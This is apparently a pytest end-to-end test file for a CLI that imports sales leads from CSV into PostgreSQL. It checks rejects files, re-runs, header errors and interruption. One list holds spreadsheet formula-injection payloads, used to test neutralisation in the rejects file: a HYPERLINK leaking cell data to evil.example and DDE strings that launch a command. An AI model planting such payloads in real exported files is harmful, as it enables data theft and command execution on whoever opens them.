"""``lqs leads import``: streaming, rejects file, idempotent re-runs."""

from __future__ import annotations

import csv
import signal
import subprocess
import sys
import time
from pathlib import Path

import psycopg
import pytest

from tests.e2e.conftest import lqs_env, run_lqs


def _client(url: str, slug: str = "importer") -> None:
    result = run_lqs(url, "clients", "create", "Importer", "--slug", slug, "--region", "GB")
    assert result.returncode == 0, result.stderr


def _count(url: str, sql: str) -> int:
    with psycopg.connect(url) as conn:
        row = conn.execute(sql.encode()).fetchone()
    assert row is not None
    return int(row[0])


def _rejects(path: Path) -> list[list[str]]:
    # UTF-8 with a byte-order mark, so that Excel reads it as UTF-8.
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def test_import_stores_good_rows_rejects_bad_ones_and_reimports_nothing(
    pipeline_db: str, tmp_path: Path
) -> None:
    _client(pipeline_db)
    source = tmp_path / "leads.csv"
    with source.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["E-mail", "First Name", "Phone", "Company Size", "Budget"])
        for i in range(2500):
            writer.writerow([f"p{i}@corp.example", f"Name{i}", "", str(i % 300), "10k"])
        writer.writerow(["not-an-email", "Bad", "", "", ""])
        writer.writerow(["q@corp.example", "Short"])  # too few fields
        writer.writerow(["r@corp.example", "Long", "", "", "", "extra"])  # too many
        writer.writerow(["", "Phone only", "020 7946 0958", "", ""])
        writer.writerow(["P1@corp.example", "Dup", "", "", ""])  # same lead as row 2

    first = run_lqs(
        pipeline_db, "leads", "import", str(source), "--client", "importer", "--map", "E-mail=email"
    )

    assert first.returncode == 0, first.stderr
    assert "rows/s" in first.stdout
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 2501
    assert (
        _count(pipeline_db, "SELECT count(*) FROM public.leads WHERE phone = '+442079460958'") == 1
    )
    assert (
        _count(pipeline_db, "SELECT count(*) FROM public.leads WHERE custom ->> 'budget' = '10k'")
        == 2500
    )
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads WHERE first_name = 'Dup'") == 1
    rejects = _rejects(tmp_path / "leads.csv.rejects.csv")
    assert rejects[0][:2] == ["line", "reason"]
    reasons = {row[0]: row[1] for row in rejects[1:]}
    assert len(reasons) == 3
    assert "email" in reasons["2502"]
    assert "fields" in reasons["2503"]
    assert "fields" in reasons["2504"]

    second = run_lqs(
        pipeline_db, "leads", "import", str(source), "--client", "importer", "--map", "E-mail=email"
    )

    assert second.returncode == 0, second.stderr
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 2501
    assert _count(pipeline_db, "SELECT count(*) FROM public.lead_import_rows") == 2502
    assert (
        _count(
            pipeline_db, "SELECT count(*) FROM public.leads WHERE jsonb_array_length(history) > 1"
        )
        == 0
    )


def test_import_into_an_unknown_client_fails_cleanly(pipeline_db: str, tmp_path: Path) -> None:
    source = tmp_path / "x.csv"
    source.write_text("email\na@b.example\n")
    result = run_lqs(pipeline_db, "leads", "import", str(source), "--client", "nobody")
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        "error: no client with slug 'nobody'; create it with `lqs clients create` "
        "or list clients with `lqs clients list`"
    ]


def test_import_of_a_missing_file_fails_cleanly(pipeline_db: str, tmp_path: Path) -> None:
    _client(pipeline_db)
    result = run_lqs(
        pipeline_db, "leads", "import", str(tmp_path / "nope.csv"), "--client", "importer"
    )
    assert result.returncode == 1
    assert "cannot read" in result.stderr
    assert "Traceback" not in result.stderr


def test_bad_map_option_names_the_problem(pipeline_db: str, tmp_path: Path) -> None:
    _client(pipeline_db)
    source = tmp_path / "x.csv"
    source.write_text("mail\na@b.example\n")
    result = run_lqs(
        pipeline_db, "leads", "import", str(source), "--client", "importer", "--map", "mail=emial"
    )
    assert result.returncode == 1
    assert "'emial' is not a lead field" in result.stderr
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 0


def _write(path: Path, header: list[str], rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def test_rows_the_database_refuses_are_rejected_alone_and_the_rest_of_their_batch_stored(
    pipeline_db: str, tmp_path: Path
) -> None:
    _client(pipeline_db)
    # Limits the parser does not know about, as a stricter schema would have them.
    with psycopg.connect(pipeline_db) as conn:
        conn.execute(b"ALTER TABLE public.leads ALTER COLUMN job_title TYPE varchar(12)")
        conn.execute(
            b"ALTER TABLE public.leads ADD CONSTRAINT test_no_tobacco"
            b" CHECK (industry IS DISTINCT FROM 'Tobacco')"
        )
    header = ["email", "job_title", "industry", "consent_status", "consent_at", "first_name"]
    good = [[f"p{i}@corp.example", "CTO", "Software", "", "", f"N{i}"] for i in range(40)]
    rows = [
        *good[:5],
        # An offset PostgreSQL would refuse (beyond 15:59): parse_lead stores it as UTC.
        ["tz@corp.example", "", "", "granted", "2024-05-01T09:00:00+20:00", ""],
        *good[5:20],
        ["long@corp.example", "Chief Revenue Officer", "", "", "", ""],  # over varchar(12)
        ["tobacco@corp.example", "", "Tobacco", "", "", ""],  # the CHECK; same batch
        *good[20:30],
        ["nul@corp.example", "", "", "", "", "Nu\0l"],  # NUL: unstorable in text
        *good[30:],
    ]
    source = tmp_path / "leads.csv"
    _write(source, header, rows)
    line_of = {row[0]: number for number, row in enumerate(rows, start=2)}

    args = ("leads", "import", str(source), "--client", "importer", "--batch-size", "8")
    first = run_lqs(pipeline_db, *args)

    assert first.returncode == 0, first.stderr
    assert "Traceback" not in first.stderr
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 41
    assert (
        _count(
            pipeline_db,
            "SELECT count(*) FROM public.leads WHERE email = 'tz@corp.example'"
            " AND consent_at = '2024-04-30T13:00:00Z'",
        )
        == 1
    )
    reasons = {row[0]: row[1] for row in _rejects(tmp_path / "leads.csv.rejects.csv")[1:]}
    assert set(reasons) == {
        str(line_of[email]) for email in ("long@corp.example", "tobacco@corp.example")
    } | {str(line_of["nul@corp.example"])}
    assert reasons[str(line_of["long@corp.example"])] == (
        "refused by the database: value too long for type character varying(12)"
    )
    assert "test_no_tobacco" in reasons[str(line_of["tobacco@corp.example"])]
    assert "NUL" in reasons[str(line_of["nul@corp.example"])]

    second = run_lqs(pipeline_db, *args)

    assert second.returncode == 0, second.stderr
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 41
    assert _count(pipeline_db, "SELECT count(*) FROM public.lead_import_rows") == 41
    # The first run's rejects file is kept; the second run's is written beside it.
    assert _rejects(tmp_path / "leads.csv.rejects-2.csv") == _rejects(
        tmp_path / "leads.csv.rejects.csv"
    )
    assert "leads.csv.rejects-2.csv" in second.stdout.replace("\n", "")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_neutralised_in_the_rejects_file_and_stored_as_submitted(
    pipeline_db: str, tmp_path: Path
) -> None:
    _client(pipeline_db)
    source = tmp_path / "leads.csv"
    header = ["email", "=Notes", "company_name"]
    rejected = [[f"bad{i}-not-an-email", formula, formula] for i, formula in enumerate(FORMULAS)]
    _write(source, header, [*rejected, ["ok@corp.example", "=1+1", "-Minus Corp"]])

    result = run_lqs(pipeline_db, "leads", "import", str(source), "--client", "importer")

    assert result.returncode == 0, result.stderr
    assert "rejects.csv" in result.stdout
    rejects_path = tmp_path / "leads.csv.rejects.csv"
    rows = _rejects(rejects_path)
    assert rows[0] == ["line", "reason", "email", "'=Notes", "company_name"]
    assert [row[3] for row in rows[1:]] == ["'" + formula for formula in FORMULAS]
    assert [row[4] for row in rows[1:]] == ["'" + formula for formula in FORMULAS]
    # Every text field is quoted, so a separator inside a cell cannot start another one.
    raw = rejects_path.read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"' in raw
    assert "\n" + '2,"' in raw.replace("\r\n", "\n")
    with psycopg.connect(pipeline_db) as conn:
        stored = conn.execute(b"SELECT custom ->> '=notes', company_name FROM public.leads")
        assert stored.fetchall() == [("=1+1", "-Minus Corp")]


def test_an_empty_file_is_refused(pipeline_db: str, tmp_path: Path) -> None:
    _client(pipeline_db)
    source = tmp_path / "empty.csv"
    source.write_bytes(b"")
    result = run_lqs(pipeline_db, "leads", "import", str(source), "--client", "importer")
    assert result.returncode == 1
    assert result.stderr.strip() == f"error: {source} is empty: expected a header row"


def test_a_header_only_file_imports_nothing_and_says_so(pipeline_db: str, tmp_path: Path) -> None:
    _client(pipeline_db)
    source = tmp_path / "header.csv"
    source.write_text("email,first_name\r\n")
    result = run_lqs(pipeline_db, "leads", "import", str(source), "--client", "importer")
    assert result.returncode == 0, result.stderr
    assert "no data rows" in result.stdout
    assert not (tmp_path / "header.csv.rejects.csv").exists()


def test_a_directory_is_refused(pipeline_db: str, tmp_path: Path) -> None:
    _client(pipeline_db)
    result = run_lqs(pipeline_db, "leads", "import", str(tmp_path), "--client", "importer")
    assert result.returncode == 1
    assert result.stderr.strip() == f"error: {tmp_path} is a directory; expected a CSV file"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "email,Phone,phone\na@b.example,1,2\n",
            'columns 2 ("Phone") and 3 ("phone") both fill phone',
        ),
        ("email,notes,notes\na@b.example,1,2\n", 'the header repeats "notes" in columns 2 and 3'),
        ("\nemail\na@b.example\n", "the first line is blank; expected a header row"),
        ("email,bud\0get\na@b.example,1\n", "the header's column 2 contains a control character"),
    ],
    ids=["two-columns-one-field", "same-name-twice", "blank-first-line", "nul-in-header"],
)
def test_header_rows_that_cannot_be_imported_are_refused(
    pipeline_db: str, tmp_path: Path, content: str, message: str
) -> None:
    _client(pipeline_db)
    source = tmp_path / "header.csv"
    source.write_text(content)
    result = run_lqs(pipeline_db, "leads", "import", str(source), "--client", "importer")
    assert result.returncode == 1
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 0


def test_a_database_error_that_is_not_about_a_row_stops_the_import_cleanly(
    pipeline_db: str, tmp_path: Path
) -> None:
    _client(pipeline_db)
    with psycopg.connect(pipeline_db) as conn:
        conn.execute(
            b"""CREATE FUNCTION test_boom() RETURNS trigger LANGUAGE plpgsql AS $$
            BEGIN
                IF NEW.email = 'boom@corp.example' THEN
                    RAISE EXCEPTION 'the disk is full (pretend)';
                END IF;
                RETURN NEW;
            END $$"""
        )
        conn.execute(
            b"CREATE TRIGGER test_boom BEFORE INSERT ON public.leads"
            b" FOR EACH ROW EXECUTE FUNCTION test_boom()"
        )
    source = tmp_path / "leads.csv"
    emails = [f"p{i}@corp.example" for i in range(25)]
    emails[23] = "boom@corp.example"
    _write(source, ["email"], [[email] for email in emails])

    result = run_lqs(
        pipeline_db, "leads", "import", str(source), "--client", "importer", "--batch-size", "10"
    )

    assert result.returncode == 1
    assert result.stderr.strip() == (
        "error: the database refused the import: the disk is full (pretend); rows up to line "
        "21 are imported; run the same command again to import the rest (rows already "
        "imported are skipped)"
    )
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == 20


_SLOW_BATCHES = """
CREATE OR REPLACE FUNCTION public.test_slow_batches() RETURNS trigger
LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_sleep(0.05); RETURN NULL; END $$;
CREATE TRIGGER test_slow_batches AFTER INSERT ON public.leads
FOR EACH STATEMENT EXECUTE FUNCTION public.test_slow_batches();
"""


def test_ctrl_c_keeps_committed_batches_and_a_rerun_finishes_the_import(
    pipeline_db: str, tmp_path: Path
) -> None:
    _client(pipeline_db)
    source = tmp_path / "big.csv"
    total = 20_000
    _write(source, ["email"], [[f"p{i}@corp.example"] for i in range(total)])
    args = ("leads", "import", str(source), "--client", "importer", "--batch-size", "200")
    # Each statement that writes leads waits 50 ms, so the 100 batches take at least 5 s
    # and the interrupt lands mid-import however fast the host (on a busy one the import
    # once finished before the loop below saw its first batch). Dropped before the rerun.
    with psycopg.connect(pipeline_db, autocommit=True) as conn:
        conn.execute(_SLOW_BATCHES)
    process = subprocess.Popen(
        [sys.executable, "-m", "lqs", *args],
        env=lqs_env(pipeline_db),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        # Interrupt once the first batches are committed (not a timing assertion: a wait).
        deadline = time.monotonic() + 120
        while _count(pipeline_db, "SELECT count(*) FROM public.leads") == 0:
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.02)
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()

    assert process.returncode == 130, err
    assert "Traceback" not in err
    assert err.strip().splitlines()[-1].startswith("interrupted: rows up to line ")
    assert "run the same command again" in err
    stored = _count(pipeline_db, "SELECT count(*) FROM public.leads")
    assert 0 < stored < total
    assert stored % 200 == 0  # whole batches: the interrupted one was rolled back

    with psycopg.connect(pipeline_db, autocommit=True) as conn:
        conn.execute("DROP TRIGGER test_slow_batches ON public.leads")
    rerun = run_lqs(pipeline_db, *args)

    assert rerun.returncode == 0, rerun.stderr
    assert _count(pipeline_db, "SELECT count(*) FROM public.leads") == total
    assert _count(pipeline_db, "SELECT count(*) FROM public.lead_import_rows") == total
